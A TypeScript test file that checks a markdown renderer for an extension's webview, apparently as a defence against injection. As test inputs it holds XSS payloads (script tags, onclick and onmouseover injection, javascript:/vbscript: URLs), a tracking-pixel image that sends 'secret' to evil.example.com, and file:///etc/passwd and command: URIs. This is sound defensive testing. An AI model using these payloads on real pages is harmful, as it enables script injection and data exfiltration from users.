import * as assert from 'assert';
import { isSafeLink, renderMarkdownUnsanitised } from '../../../src/webview-ui/markdownIt';

// The markdown-it half of rendering, in plain Node. DOMPurify, the second half, runs in a real browser in
// renderMarkdown.browser.test.ts.
describe('answer markdown (before sanitising)', () => {
  it('renders raw HTML as text', () => {
    const html = renderMarkdownUnsanitised('<script>alert(1)</script>\n\n<b onclick="x()">bold</b>');
    assert.ok(!html.includes('<script'));
    assert.ok(!html.includes('<b '));
    assert.ok(html.includes('&lt;script&gt;'));
  });

  it('shows an image as a link to confirm instead of loading it', () => {
    const html = renderMarkdownUnsanitised('![tracker](https://evil.example.com/pixel.png?d=secret)');
    assert.ok(!html.includes('<img'));
    assert.ok(!/\ssrc=/.test(html));
    assert.ok(html.includes('data-href="https://evil.example.com/pixel.png?d=secret"'));
    assert.ok(html.includes('>tracker</a>'));
  });

  it('drops data: and relative images to their text', () => {
    const html = renderMarkdownUnsanitised('![dot](data:image/png;base64,AAAA) ![rel](img/a.png)');
    assert.ok(!html.includes('<img'));
    assert.ok(!html.includes('<a'));
    assert.ok(html.includes('dot'));
  });

  it('never makes a link with href, and never from javascript:, data: or vbscript: URLs', () => {
    const html = renderMarkdownUnsanitised(
      '[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](data:text/html,x) [d](vbscript:x) [e](https://ok.example/)',
    );
    assert.ok(!/\shref=/.test(html));
    assert.strictEqual((html.match(/<a /g) ?? []).length, 1);
    assert.ok(html.includes('data-href="https://ok.example/"'));
  });

  it('links bare URLs through data-href (linkify)', () => {
    const html = renderMarkdownUnsanitised('see https://example.com/docs for more');
    assert.ok(html.includes('<a data-href="https://example.com/docs"'));
  });

  it('highlights known languages and leaves unknown ones plain', () => {
    assert.ok(renderMarkdownUnsanitised('```ts\nconst a = 1;\n```').includes('hljs-keyword'));
    const plain = renderMarkdownUnsanitised('```nosuchlang\n<b>x</b>\n```');
    assert.ok(plain.includes('&lt;b&gt;x&lt;/b&gt;'));
    assert.ok(!plain.includes('hljs-'));
  });

  it('escapes the fence info string', () => {
    const html = renderMarkdownUnsanitised('```ts" onmouseover="alert(1)\ncode\n```');
    assert.ok(!html.includes('" onmouseover="'));
  });

  it('accepts only http(s) and mailto links', () => {
    assert.ok(isSafeLink('https://a.example'));
    assert.ok(isSafeLink('mailto:a@b.example'));
    assert.ok(!isSafeLink('javascript:alert(1)'));
    assert.ok(!isSafeLink('command:workbench.action.terminal.new'));
    assert.ok(!isSafeLink('file:///etc/passwd'));
    assert.ok(!isSafeLink('vscode://settings'));
  });
});
